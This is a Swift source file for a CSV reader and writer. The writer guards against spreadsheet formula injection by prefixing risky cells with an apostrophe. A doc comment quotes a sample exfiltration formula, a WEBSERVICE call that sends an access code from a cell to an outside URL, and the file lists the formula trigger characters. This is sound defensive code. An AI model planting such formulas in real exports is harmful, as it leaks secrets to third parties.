import Foundation

#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif

/// RFC 4180 CSV, read as a stream with line numbers, and written safely for spreadsheets.
///
/// **Reading** (``Reader``, and ``parse(_:)`` for bytes in memory): fields may be quoted with
/// `"`; a quote inside a quoted field is doubled; quoted fields may hold commas and line breaks.
/// Lines end with LF, CRLF or a lone CR (old Mac and some Excel exports). The reader holds one
/// record at a time, so memory does not grow with the file; a record longer than
/// ``maximumRecordBytes`` or a NUL byte (a binary file, `/dev/zero`) stops it with
/// ``Unreadable`` at once instead of reading on.
///
/// **Writing** (``line(_:)``): every cell a spreadsheet would run as a formula is neutralised
/// (``neutralized(_:)``), so a file the project writes can be opened in Excel or LibreOffice
/// safely. ``restored(_:)`` undoes it when such a file is read back.
public enum CSV {
    /// One record and the (1-based) line on which it starts.
    public struct Record: Sendable {
        /// The 1-based line of the input on which the record starts.
        public var line: Int
        /// The record's fields in order, quotes removed and doubled quotes undone.
        public var fields: [String]
    }

    /// A syntax error in one record: an unterminated quote or a stray quote, text that is not
    /// UTF-8. The reader goes on at the next line.
    public struct SyntaxError: Error, Sendable, CustomStringConvertible {
        /// The 1-based line on which the broken record starts.
        public var line: Int
        /// What is wrong (`unterminated quoted field`).
        public var message: String
        public var description: String { "line \(line): \(message)" }
    }

    /// Why the reader stopped before the end: the input is not a CSV text file, or cannot be
    /// read. Nothing after `line` was read.
    public struct Unreadable: Error, Sendable, CustomStringConvertible {
        /// The 1-based line at which reading stopped.
        public var line: Int
        /// Why (`the file contains NUL bytes: it is not a CSV text file ...`).
        public var message: String
        public var description: String { "line \(line): \(message)" }
    }

    /// The longest record read (1 MiB): a frame row is a few hundred bytes. A longer one is a
    /// stray quote that swallowed the rest of the file, or not CSV at all; reading stops there,
    /// so the memory a reader holds is bounded by it.
    public static let maximumRecordBytes = 1 << 20

    /// What ``Reader/next()`` returns for each record.
    public enum Element: Sendable {
        /// A well-formed record.
        case record(Record)
        /// A record that could not be read; the reader goes on at the next line.
        case invalid(SyntaxError)
    }

    /// A CSV reader over a file descriptor or bytes, one record at a time.
    ///
    /// ```swift
    /// var reader = CSV.Reader(fileDescriptor: fd)
    /// while let element = try reader.next() {
    ///     switch element {
    ///     case .record(let r): ...        // r.line, r.fields
    ///     case .invalid(let e): ...       // e.line, e.message; reading goes on
    ///     }
    /// }                                   // throws CSV.Unreadable: stop
    /// ```
    public struct Reader {
        private let fd: Int32?
        private var buffer: [UInt8]
        private var position = 0
        private var atEnd: Bool
        private var line = 1
        private var started = false
        /// Bytes read so far.
        public private(set) var bytesRead = 0

        /// Reads from an open file descriptor (not closed by the reader).
        public init(fileDescriptor: Int32) {
            fd = fileDescriptor
            buffer = []
            buffer.reserveCapacity(1 << 16)
            atEnd = false
        }

        /// Reads bytes in memory.
        public init(data: Data) {
            fd = nil
            buffer = [UInt8](data)
            atEnd = true
            bytesRead = buffer.count
        }

        /// The first bytes of the input (at most `count`), without consuming them: to recognise
        /// a UTF-16 file before reading it as UTF-8.
        public mutating func peek(_ count: Int) throws(Unreadable) -> [UInt8] {
            while buffer.count - position < count && !atEnd { try refill() }
            return Array(buffer[position..<min(buffer.count, position + count)])
        }

        private mutating func refill() throws(Unreadable) {
            guard let fd, !atEnd else { atEnd = true; return }
            if position > 0 {
                buffer.removeFirst(position)
                position = 0
            }
            var chunk = [UInt8](repeating: 0, count: 1 << 16)
            while true {
                let n = chunk.withUnsafeMutableBytes { read(fd, $0.baseAddress, $0.count) }
                if n < 0 && errno == EINTR { continue }
                if n < 0 { throw Unreadable(line: line, message: "cannot read on: \(String(cString: strerror(errno)))") }
                if n == 0 { atEnd = true; return }
                bytesRead += n
                buffer.append(contentsOf: chunk[0..<n])
                return
            }
        }

        /// The next byte, consumed; nil at the end of the input.
        private mutating func take() throws(Unreadable) -> UInt8? {
            if position == buffer.count {
                if atEnd { return nil }
                try refill()
                if position == buffer.count { return nil }
            }
            let b = buffer[position]
            position += 1
            if b == 0 {
                throw Unreadable(line: line, message: "the file contains NUL bytes: it is not a CSV text file (a binary file, or UTF-16 text: save it as CSV UTF-8)")
            }
            return b
        }

        /// The next byte, not consumed.
        private mutating func look() throws(Unreadable) -> UInt8? {
            if position == buffer.count {
                if atEnd { return nil }
                try refill()
                if position == buffer.count { return nil }
            }
            return buffer[position]
        }

        /// The next record, an invalid record, or nil at the end. Blank lines are skipped.
        public mutating func next() throws(Unreadable) -> Element? {
            if !started {
                started = true
                if try peek(3) == [0xEF, 0xBB, 0xBF] { position += 3 }  // UTF-8 byte order mark
            }
            while true {
                guard try look() != nil else { return nil }
                let startLine = line
                var fields: [String] = []
                var field: [UInt8] = []
                var bad: String?
                var size = 0
                var atFieldStart = true
                var inQuotes = false
                var afterQuote = false
                func tooLong() -> Unreadable {
                    Unreadable(line: startLine, message: inQuotes
                        ? "a quoted field runs on for more than \(maximumRecordBytes >> 20) MiB (a stray quote?); nothing after it was read"
                        : "a line longer than \(maximumRecordBytes >> 20) MiB: this is not a CSV file of addresses")
                }
                record: while let b = try take() {
                    size += 1
                    if size > maximumRecordBytes { throw tooLong() }
                    if inQuotes {
                        if b == UInt8(ascii: "\"") {
                            if try look() == UInt8(ascii: "\"") {
                                _ = try take()
                                field.append(b)
                            } else {
                                inQuotes = false
                                afterQuote = true
                            }
                            continue
                        }
                        if b == UInt8(ascii: "\n") {
                            line += 1
                        } else if b == UInt8(ascii: "\r"), try look() != UInt8(ascii: "\n") {
                            line += 1
                        }
                        field.append(b)
                        continue
                    }
                    if atFieldStart && b == UInt8(ascii: "\"") {
                        inQuotes = true
                        atFieldStart = false
                        continue
                    }
                    atFieldStart = false
                    switch b {
                    case UInt8(ascii: ","):
                        fields.append(CSV.text(field, &bad))
                        field.removeAll(keepingCapacity: true)
                        atFieldStart = true
                        afterQuote = false
                    case UInt8(ascii: "\r"), UInt8(ascii: "\n"):
                        if b == UInt8(ascii: "\r"), try look() == UInt8(ascii: "\n") { _ = try take() }
                        line += 1
                        break record
                    default:
                        if afterQuote && bad == nil { bad = "unexpected character after a closing quote" }
                        if b == UInt8(ascii: "\"") && bad == nil {
                            bad = "a quote inside an unquoted field (quote the whole field and double the quote)"
                        }
                        field.append(b)
                    }
                }
                if inQuotes && bad == nil { bad = "unterminated quoted field" }
                fields.append(CSV.text(field, &bad))
                if let bad { return .invalid(SyntaxError(line: startLine, message: bad)) }
                if fields.count == 1 && fields[0].isEmpty { continue }  // blank line
                return .record(Record(line: startLine, fields: fields))
            }
        }
    }

    /// Parses `data` (UTF-8) in memory. Blank lines are skipped. Syntax errors are returned per
    /// record so that a caller can report all of them; the parser resynchronises at the next
    /// line break. A NUL byte or an over-long record ends the parse with one error.
    public static func parse(_ data: Data) -> (records: [Record], errors: [SyntaxError]) {
        var reader = Reader(data: data)
        var records: [Record] = []
        var errors: [SyntaxError] = []
        do {
            while let element = try reader.next() {
                switch element {
                case .record(let r): records.append(r)
                case .invalid(let e): errors.append(e)
                }
            }
        } catch {
            errors.append(SyntaxError(line: error.line, message: error.message))
        }
        return (records, errors)
    }

    /// A field's text. Invalid UTF-8 (a file saved as Latin-1 or Windows-1252) is a syntax error:
    /// decoding it with replacement characters would import mangled addresses silently.
    static func text(_ field: [UInt8], _ bad: inout String?) -> String {
        if let s = String(validating: field, as: UTF8.self) { return s }
        if bad == nil { bad = "text that is not UTF-8 (save the file as UTF-8, e.g. \"CSV UTF-8\" in Excel)" }
        return String(decoding: field, as: UTF8.self)
    }

    // MARK: Writing

    /// The characters that make a spreadsheet read a cell as a formula when they come first:
    /// `=`, `+`, `-`, `@`, tab and carriage return (OWASP, "CSV Injection").
    public static let formulaTriggers: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]

    /// The cell as a spreadsheet will show it, never run it: a cell that starts with one of
    /// ``formulaTriggers`` gets a leading apostrophe (`=WEBSERVICE(…)` becomes `'=WEBSERVICE(…)`,
    /// which Excel and LibreOffice show as text). A plain number (`-12`, `+4.5`) is left alone:
    /// a spreadsheet reads it as a number, not a formula.
    ///
    /// Why: a letters file holds access codes beside the addresses; an address line
    /// `=WEBSERVICE("http://…/?c="&C2)` opened by a print supplier would send the code in C2
    /// away (issue 13).
    public static func neutralized(_ cell: String) -> String {
        guard let first = cell.utf8.first, startsFormula(first), !isPlainNumber(cell) else { return cell }
        return "'" + cell
    }

    /// True when a cell starting with the byte `first` is one a spreadsheet may run as a
    /// formula (one of ``formulaTriggers``).
    @inline(__always) public static func startsFormula(_ first: UInt8) -> Bool {
        first == UInt8(ascii: "=") || first == UInt8(ascii: "+") || first == UInt8(ascii: "-")
            || first == UInt8(ascii: "@") || first == 0x09 || first == 0x0D
    }

    /// Appends one cell of text to `out`, neutralised (``neutralized(_:)``) and quoted as needed
    /// (RFC 4180: a cell holding `,`, `"`, CR or LF is quoted, quotes doubled), without making
    /// intermediate strings: the one cell writer of every CSV the project writes, the letters,
    /// generated frames and the aggregator's exports, tables and reports alike.
    public static func appendCell(_ cell: String, to out: inout [UInt8]) {
        var cell = cell
        cell.withUTF8 { bytes in
            guard let first = bytes.first else { return }
            var needsQuotes = false
            for b in bytes where b == 0x2C || b == 0x22 || b == 0x0A || b == 0x0D { needsQuotes = true; break }
            if needsQuotes { out.append(0x22) }
            if startsFormula(first) && !isPlainNumber(bytes) { out.append(UInt8(ascii: "'")) }
            if needsQuotes {
                for b in bytes {
                    if b == 0x22 { out.append(0x22) }
                    out.append(b)
                }
                out.append(0x22)
            } else {
                out.append(contentsOf: bytes)
            }
        }
    }

    /// Undoes ``neutralized(_:)``: a leading apostrophe followed by one of ``formulaTriggers``
    /// is removed. Applied to every field of a frame CSV on import, so that a file the project
    /// wrote (`frame generate`) imports as it was generated.
    public static func restored(_ cell: String) -> String {
        guard cell.hasPrefix("'"), let second = cell.dropFirst().first, formulaTriggers.contains(second) else { return cell }
        return String(cell.dropFirst())
    }

    private static func isPlainNumber(_ s: String) -> Bool {
        var s = s
        return s.withUTF8 { isPlainNumber($0) }
    }

    private static func isPlainNumber(_ bytes: UnsafeBufferPointer<UInt8>) -> Bool {
        var digits = 0
        var dots = 0
        for (i, b) in bytes.enumerated() {
            if (b == UInt8(ascii: "-") || b == UInt8(ascii: "+")) && i == 0 { continue }
            if b == UInt8(ascii: ".") { dots += 1; continue }
            guard b >= UInt8(ascii: "0") && b <= UInt8(ascii: "9") else { return false }
            digits += 1
        }
        return digits > 0 && dots <= 1
    }

    /// Quotes a field when needed (after neutralising it: see ``neutralized(_:)``).
    public static func escape(_ field: String) -> String {
        var out: [UInt8] = []
        appendCell(field, to: &out)
        return String(decoding: out, as: UTF8.self)
    }

    /// One CSV line (with trailing LF), every cell neutralised and quoted as needed: the one
    /// way the project writes CSV (letters, generated frames).
    public static func line(_ fields: [String]) -> String {
        fields.map(escape).joined(separator: ",") + "\n"
    }
}
